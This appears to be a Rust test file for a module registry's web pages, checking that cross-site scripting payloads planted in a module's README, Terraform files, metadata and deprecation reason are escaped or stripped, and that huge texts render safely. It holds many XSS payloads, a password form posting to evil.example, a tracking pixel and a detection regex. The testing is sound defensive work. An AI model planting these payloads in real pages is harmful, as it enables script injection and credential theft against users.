//! A module whose every text wants to do harm: on its page all of it is text.

use regex::Regex;

use super::{APPROVE, change, page, parcel, publish};
use crate::support::pave::Sandbox;
use crate::support::registry::Served;

#[test]
fn what_a_module_says_of_itself_cannot_do_harm() {
    let sandbox = Sandbox::new();
    let served = Served::start(&sandbox, &[]);
    let mut files = parcel("1.0.0");
    let readme = files.get_mut("README.md").unwrap();
    readme.push_str(
        "\n<script>alert('readme')</script>\n\n<img src=x onerror=alert(1)>\n\n\
         [run](javascript:alert(1)) [data](data:text/html,x) [up](../../secret) [out](https://example.com/docs)\n\n\
         ![seen](https://tracker.example/pixel.png)\n\n<a href=\"javascript:alert(2)\" onclick=\"x()\">html</a>\n\n\
         <style>body{display:none}</style>\n\n<iframe src=\"https://evil.example\"></iframe>\n\n\
         <form action=\"https://evil.example\"><input name=\"password\"></form>\n\n\
         <h3 id=\"main\">Mine</h3>\n",
    );
    let variables = files.get_mut("variables.tf").unwrap();
    *variables =
        variables.replace("Where it goes.", "Where <script>alert('input')</script> it goes.");
    variables.push_str(
        "\nvariable \"note\" {\n  type        = string\n  description = \"A <b>note</b>.\"\n  \
         default     = \"\\\"><script>alert('default')</script>\"\n  nullable    = false\n}\n",
    );
    let outputs = files.get_mut("outputs.tf").unwrap();
    *outputs = outputs.replace("The label.", "The <img src=x onerror=alert('output')> label.");
    *outputs = outputs.replace("To ${var.address}", "To ${var.address} ${var.note}");
    let card = files.get_mut("module.yaml").unwrap();
    *card = card.replace("post-office", "\"<script>alert('owner')</script>\"");
    let test = files.get_mut("tests/address.tftest.hcl").unwrap();
    *test = test.replace("= plan", "= plan # </code></pre><script>alert('test')</script>");
    files.insert(
        "examples/basic/outputs.tf".to_owned(),
        "# </code></pre><script>alert('example')</script>\n".to_owned(),
    );
    publish(&served, "parcel", "1.0.0", &files);
    change(&served, "parcel", "1.0.0", APPROVE);
    let reason = r#"{"action": "deprecate", "reason": "<script>alert('reason')</script>", "successor": "javascript:alert(3)"}"#;
    change(&served, "parcel", "1.0.0", reason);

    let harm = Regex::new(r#"<script>|<script [^s]|<img|<iframe|<style|<form action="http|<[^>]*\son[a-z]+=|href="(?:javascript|data)|<input name="password"#).unwrap();
    for path in
        ["/modules/platform/parcel/aws", "/?q=parcel", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"]
    {
        let html = page(&served, path);
        assert_eq!(harm.find(&html).map(|m| m.as_str()), None, "{path}");
    }
    let html = page(&served, "/modules/platform/parcel/aws");
    for said in ["input", "default", "owner", "test", "example", "reason"] {
        let text = format!("&lt;script&gt;alert(&#x27;{said}&#x27;)&lt;");
        let text_too = format!("&lt;script&gt;alert(&#39;{said}&#39;)&lt;");
        assert!(html.contains(&text) || html.contains(&text_too), "{said} is shown as text");
    }
    assert!(
        html.contains("href=\"https://example.com/docs\" rel=\"noopener noreferrer nofollow\"")
    );
    assert!(!html.contains("tracker.example") && !html.contains("../../secret"));
    assert_eq!(html.matches("id=\"main\"").count(), 1, "an anchor of the page is not taken over");
}

#[test]
fn huge_texts_are_shown_without_harm() {
    let sandbox = Sandbox::new();
    let served = Served::start(&sandbox, &[]);
    let mut files = parcel("1.0.0");
    let readme = files.get_mut("README.md").unwrap();
    readme.push_str(&format!("\n{}\n\n{}x\n", "word ".repeat(200_000), "> ".repeat(2_000)));
    publish(&served, "parcel", "1.0.0", &files);
    change(&served, "parcel", "1.0.0", APPROVE);
    let html = page(&served, "/modules/platform/parcel/aws");
    assert!(html.len() < 800_000, "{}", html.len());
    assert!(html.contains("id=\"provenance\""), "the page goes on after it");
    assert_eq!(super::ask(&served, &format!("/?q={}", "a".repeat(5_000)), None).status(), 200);
}
